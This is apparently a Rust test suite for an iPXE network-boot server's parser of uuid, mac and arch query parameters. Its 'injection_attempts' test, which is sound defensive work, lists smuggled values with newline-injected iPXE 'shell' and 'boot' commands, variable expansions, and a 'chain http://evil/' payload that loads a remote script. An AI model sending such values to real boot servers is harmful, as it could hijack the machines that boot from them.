//! Boot query validation: `GET /ipxe/boot.ipxe?uuid=&mac=&arch=`.
#![allow(clippy::unwrap_used)]

use proptest::prelude::*;
use rackboot_ipxe::{Arch, BootQuery, QueryError};

const UUID: &str = "4c4c4544-0035-3010-8052-b4c04f4d4d32";

fn parse(q: &str) -> Result<BootQuery, QueryError> {
    BootQuery::parse(q)
}

#[test]
fn full_query_as_ipxe_sends_it() {
    let q = parse("uuid=4C4C4544-0035-3010-8052-B4C04F4D4D32&mac=52-54-00-99-00-10&arch=x86_64")
        .unwrap();
    assert_eq!(
        q,
        BootQuery {
            uuid: UUID.into(),
            uuid_is_placeholder: false,
            mac: Some("52:54:00:99:00:10".into()),
            arch: Some(Arch::X86_64),
        }
    );
}

#[test]
fn forms_and_optional_parts() {
    let q = parse("?uuid=4c4c4544003530108052b4c04f4d4d32").unwrap();
    assert_eq!((q.uuid.as_str(), q.mac, q.arch), (UUID, None, None));
    let q = parse(&format!("uuid={UUID}&mac=52:54:00:99:00:1A&arch=arm64")).unwrap();
    assert_eq!(q.mac.as_deref(), Some("52:54:00:99:00:1a"));
    assert_eq!(q.arch, Some(Arch::Arm64));
    let q = parse(&format!("uuid={UUID}&mac=52%3A54%3A00%3A99%3A00%3A10")).unwrap();
    assert_eq!(q.mac.as_deref(), Some("52:54:00:99:00:10"));
    // empty mac/arch: iPXE expands unset settings to nothing
    let q = parse(&format!("uuid={UUID}&mac=&arch=")).unwrap();
    assert_eq!((q.mac, q.arch), (None, None));
    for a in ["i386", "x86_64", "arm32", "arm64", "riscv64"] {
        let q = parse(&format!("uuid={UUID}&arch={a}")).unwrap();
        assert_eq!(q.arch.unwrap().as_str(), a);
    }
    // unknown parameters are ignored, whatever they hold
    let q = parse(&format!("foo=bar&uuid={UUID}&x=%0Ashell&&y")).unwrap();
    assert_eq!(q.uuid, UUID);
}

#[test]
fn missing_uuid() {
    assert_eq!(parse(""), Err(QueryError::MissingUuid));
    assert_eq!(
        parse("uuid=&mac=&arch=x86_64"),
        Err(QueryError::MissingUuid)
    );
    assert_eq!(parse("uuid"), Err(QueryError::MissingUuid));
    assert_eq!(
        QueryError::MissingUuid.to_string(),
        "missing uuid (and no mac)"
    );
}

#[test]
fn missing_uuid_with_a_mac_is_known_by_the_mac() {
    // What iPXE sends on a board without SMBIOS (`${uuid}` unset).
    for query in [
        "uuid=&mac=52-54-00-99-00-10&arch=arm64",
        "mac=52-54-00-99-00-10",
    ] {
        let q = parse(query).unwrap();
        assert!(q.uuid_is_placeholder, "{query}");
        assert_eq!(q.uuid, "00000000-0000-0000-0000-000000000000");
        assert_eq!(q.mac.as_deref(), Some("52:54:00:99:00:10"));
    }
}

#[test]
fn placeholder_uuids_are_flagged() {
    let q = parse("uuid=00000000-0000-0000-0000-000000000000&mac=52-54-00-99-00-10").unwrap();
    assert!(q.uuid_is_placeholder);
    assert_eq!(q.uuid, "00000000-0000-0000-0000-000000000000");
    for placeholder in [
        "00000000000000000000000000000000",
        "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF",
        "ffffffffffffffffffffffffffffffff",
        "03000200-0400-0500-0006-000700080009",
        "00020003-0004-0005-0006-000700080009",
    ] {
        let q = parse(&format!("uuid={placeholder}")).unwrap();
        assert!(q.uuid_is_placeholder, "{placeholder}");
    }
    assert!(!parse(&format!("uuid={UUID}")).unwrap().uuid_is_placeholder);
    assert!(
        !parse("uuid=ffffffff-ffff-ffff-ffff-fffffffffffe")
            .unwrap()
            .uuid_is_placeholder
    );
}

#[test]
fn bad_values() {
    for bad in [
        "uuid=nope",
        "uuid=4c4c4544-0035-3010-8052-b4c04f4d4d3",
        "uuid=4c4c4544-0035-3010-8052-b4c04f4d4d322",
        "uuid=4c4c4544_0035_3010_8052_b4c04f4d4d32",
        "uuid=gc4c4544-0035-3010-8052-b4c04f4d4d32",
        "uuid=4c4c45440-035-3010-8052-b4c04f4d4d32",
    ] {
        assert_eq!(parse(bad), Err(QueryError::InvalidUuid), "{bad}");
    }
    for bad in [
        "52-54-00-99-00",
        "52-54:00-99-00-10",
        "525400990010",
        "zz-54-00-99-00-10",
    ] {
        assert_eq!(
            parse(&format!("uuid={UUID}&mac={bad}")),
            Err(QueryError::InvalidMac),
            "{bad}"
        );
    }
    // An architecture this build does not know is treated as absent, not refused.
    for unknown in ["x86", "X86_64", "amd64", "efi", "riscv32", "loong64"] {
        let q = parse(&format!("uuid={UUID}&arch={unknown}")).unwrap();
        assert_eq!(q.arch, None, "{unknown}");
    }
}

#[test]
fn injection_attempts() {
    let cases = [
        (format!("uuid={UUID}%0Aboot"), "uuid"),
        (format!("uuid={UUID}%0D%0Ashell"), "uuid"),
        (format!("uuid={UUID}+shell"), "uuid"),
        (format!("uuid={UUID}%20||%20shell"), "uuid"),
        (format!("uuid={UUID};shell"), "uuid"),
        ("uuid=${uuid}".to_string(), "uuid"),
        ("uuid=%24%7Bnet0/ip%7D".to_string(), "uuid"),
        (format!("uuid={UUID}%00"), "uuid"),
        (format!("uuid={UUID}%09"), "uuid"),
        (format!("uuid={UUID}%22"), "uuid"),
        (format!("uuid={UUID}'"), "uuid"),
        (format!("uuid={UUID}%5C"), "uuid"),
        (format!("uuid={UUID}&mac=52-54-00-99-00-10%0Ashell"), "mac"),
        (format!("uuid={UUID}&mac=${{net0/mac}}"), "mac"),
        (format!("uuid={UUID}&mac=52-54-00-99-00-10%7F"), "mac"),
        (
            format!("uuid={UUID}&arch=x86_64%0Achain%20http://evil/"),
            "arch",
        ),
        (format!("uuid={UUID}&arch=${{buildarch}}"), "arch"),
    ];
    for (q, param) in cases {
        assert_eq!(
            parse(&q),
            Err(QueryError::UnsafeValue { param }),
            "query {q:?}"
        );
    }
    let err = parse(&format!("uuid={UUID}&mac=52-54-00-99-00-10%0Ashell")).unwrap_err();
    assert_eq!(
        err.to_string(),
        "parameter mac: value contains forbidden characters"
    );
}

#[test]
fn encoding_and_duplicates() {
    assert_eq!(
        parse("uuid=%zz"),
        Err(QueryError::BadEncoding { param: "uuid" })
    );
    assert_eq!(
        parse(&format!("uuid={UUID}&mac=%")),
        Err(QueryError::BadEncoding { param: "mac" })
    );
    assert_eq!(
        parse(&format!("uuid={UUID}&arch=%C3")),
        Err(QueryError::BadEncoding { param: "arch" })
    );
    assert_eq!(
        parse(&format!("uuid={UUID}&uuid={UUID}")),
        Err(QueryError::Duplicate { param: "uuid" })
    );
    // percent-encoded parameter names are decoded
    assert_eq!(parse(&format!("%75uid={UUID}")).unwrap().uuid, UUID);
}

fn check_accepted(q: &BootQuery) {
    assert!(q
        .uuid
        .bytes()
        .all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f' | b'-')));
    assert_eq!(q.uuid.len(), 36);
    if let Some(mac) = &q.mac {
        assert!(mac
            .bytes()
            .all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f' | b':')));
        assert_eq!(mac.len(), 17);
    }
    if let Some(a) = q.arch {
        assert!(["i386", "x86_64", "arm32", "arm64", "riscv64"].contains(&a.as_str()));
    }
}

/// Pieces that make near-valid queries likely, with hostile bytes mixed in.
fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("uuid=".to_string()),
        Just("mac=".to_string()),
        Just("arch=".to_string()),
        Just("&".to_string()),
        Just("=".to_string()),
        Just(UUID.to_string()),
        Just("00000000-0000-0000-0000-000000000000".to_string()),
        Just("52-54-00-99-00-10".to_string()),
        Just("52:54:00:99:00:10".to_string()),
        Just("x86_64".to_string()),
        Just("%0A".to_string()),
        Just("%".to_string()),
        Just("%24%7B".to_string()),
        Just("${uuid}".to_string()),
        Just("+".to_string()),
        "[0-9a-fA-F:-]{0,4}",
        any::<String>(),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn random_strings_never_panic(s in any::<String>()) {
        if let Ok(q) = BootQuery::parse(&s) {
            check_accepted(&q);
        }
    }

    #[test]
    fn assembled_queries_never_panic(pieces in prop::collection::vec(piece(), 0..12)) {
        let s: String = pieces.concat();
        if let Ok(q) = BootQuery::parse(&s) {
            check_accepted(&q);
        }
    }

    #[test]
    fn valid_queries_round_trip(
        uuid in "[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}",
        mac in "[0-9a-fA-F]{2}(-[0-9a-fA-F]{2}){5}",
        arch in prop::sample::select(Arch::ALL.to_vec()),
    ) {
        let q = BootQuery::parse(&format!("uuid={uuid}&mac={mac}&arch={arch}")).unwrap();
        prop_assert_eq!(q.uuid, uuid.to_ascii_lowercase());
        prop_assert_eq!(q.mac.unwrap(), mac.replace('-', ":").to_ascii_lowercase());
        prop_assert_eq!(q.arch, Some(arch));
    }
}
